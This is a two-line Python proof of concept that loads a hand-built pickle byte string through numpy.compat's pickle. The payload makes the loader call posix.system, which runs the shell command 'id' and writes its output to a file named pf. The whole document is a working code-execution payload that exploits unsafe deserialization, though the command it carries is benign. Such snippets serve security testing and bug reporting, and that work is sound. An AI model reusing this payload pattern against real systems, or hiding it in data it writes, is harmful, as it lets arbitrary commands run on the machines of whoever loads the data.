from numpy.compat import pickle as p
p.loads(b"cposix\nsystem\n(S'id>pf'\ntR.")
